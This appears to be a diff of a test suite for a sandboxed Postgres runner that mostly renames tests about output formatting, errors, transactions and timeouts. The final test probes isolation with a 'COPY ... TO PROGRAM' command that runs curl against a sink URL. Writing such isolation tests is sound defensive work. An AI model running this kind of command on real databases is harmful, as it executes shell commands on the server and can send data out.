@@ -24,7 +24,7 @@ describe('Postgres', function () {
     return { state, stderr, stdout, notes, chunks: transcript.chunks.map(({ kind, text }) => [kind, text]) };
   };
 
-  it('shows each result as a table, and counts the rows that change', async () => {
+  it('shows each result as a table, and counts changed rows', async () => {
     const { chunks } = await sql(`CREATE TABLE t (id int GENERATED ALWAYS AS IDENTITY PRIMARY KEY, name text);
 INSERT INTO t (name) VALUES ('a\tb'), (NULL), ('NULL');
 SELECT * FROM t ORDER BY id; UPDATE t SET name = 'c' WHERE id = 1; DELETE FROM t WHERE id > 1;
@@ -41,7 +41,7 @@ SELECT name FROM t; SELECT * FROM t WHERE false; INSERT INTO t (name) VALUES ('d
     ]);
   });
 
-  it('prints values as psql does', async () => {
+  it('prints values like psql', async () => {
     const { chunks } =
       await sql(`SELECT 1.50::numeric AS n, 0.1::float8 + 0.2 AS f, 9007199254740993::int8 AS big, true AS yes,
   ARRAY[1, NULL, 3] AS list, ARRAY['a b', 'c"d'] AS texts, '{"a": [1]}'::jsonb AS json, DATE '2024-02-29' AS day,
@@ -55,7 +55,7 @@ SELECT name FROM t; SELECT * FROM t WHERE false; INSERT INTO t (name) VALUES ('d
     ]);
   });
 
-  it('says errors with their place, a mark, the code, detail and hint, and ends there', async () => {
+  it('reports errors with place, marker, code, detail and hint, and ends there', async () => {
     const { state, stderr } = await sql(
       'SELECT 1;\n\nSELECT id,\n  nam\nFROM (SELECT 1 AS id, 2 AS name) t;\nSELECT 2;',
     );
@@ -81,7 +81,7 @@ SELECT name FROM t; SELECT * FROM t WHERE false; INSERT INTO t (name) VALUES ('d
     );
   });
 
-  it('shows notices and warnings, and knows the words of other databases', async () => {
+  it('shows notices and warnings, and hints about other databases’ words', async () => {
     const { notes } = await sql(
       "DROP TABLE IF EXISTS nope; COMMIT; DO $$ BEGIN RAISE NOTICE 'half way: %', 5; END $$; SELECT 1;",
     );
@@ -98,7 +98,7 @@ SELECT name FROM t; SELECT * FROM t WHERE false; INSERT INTO t (name) VALUES ('d
     expect((await sql('SELECT nope(1);')).notes).to.equal('');
   });
 
-  it('has transactions, functions with semicolons inside, and all of a schema before it', async () => {
+  it('supports transactions, functions with semicolons inside, and a whole schema before the program', async () => {
     const files = [{ name: 'schema.sql', text: 'CREATE TABLE people (name text);' }];
     const schema = "CREATE TABLE cities (name text); INSERT INTO cities VALUES ('Kyōto');";
     const { chunks, stderr } = await sql(
@@ -117,7 +117,7 @@ SELECT twice(2), thrice(2), name, E'a\\';b' FROM cities`,
     expect((await sql('SELECT * FROM people')).stderr).to.include('42P01: relation "people" does not exist');
   });
 
-  it('lists what there is as psql does', async () => {
+  it('lists objects like psql', async () => {
     const { stdout, chunks } =
       await sql(`CREATE TABLE a (id serial PRIMARY KEY, n numeric(8,2) NOT NULL DEFAULT 0 CHECK (n >= 0));
 CREATE TABLE b (a int REFERENCES a, UNIQUE (a)); CREATE VIEW v AS SELECT 1 AS one;
@@ -178,7 +178,7 @@ SELECT * FROM c ORDER BY people;`,
     );
   });
 
-  it('cuts what is long, and can be stopped and ends when it does not', async () => {
+  it('cuts long output, can be stopped, and has a time limit', async () => {
     const { chunks } = await sql("SELECT n, repeat('x', 20) FROM generate_series(1, 100000) n;");
     expect(chunks.length).to.equal(2);
     expect(chunks[1]?.[1]).to.match(/^These are the first \d+ of 100,000 rows\.$/);
@@ -200,7 +200,7 @@ SELECT * FROM c ORDER BY people;`,
     expect(endless.state).to.equal('timed-out');
   });
 
-  it('gives tests the rows of the last query, and their own data', async () => {
+  it('gives tests the rows of the last query, and data of their own', async () => {
     const test: Test = {
       name: 'rows',
       kind: 'code',
@@ -240,7 +240,7 @@ SELECT * FROM c ORDER BY people;`,
     });
   });
 
-  it('reaches nothing outside', async () => {
+  it('has no access to the outside', async () => {
     const { url, hits } = await (await fetch('/__sink')).json();
     for (const code of [
       `COPY (SELECT 1) TO PROGRAM 'curl ${url}/postgres';`,
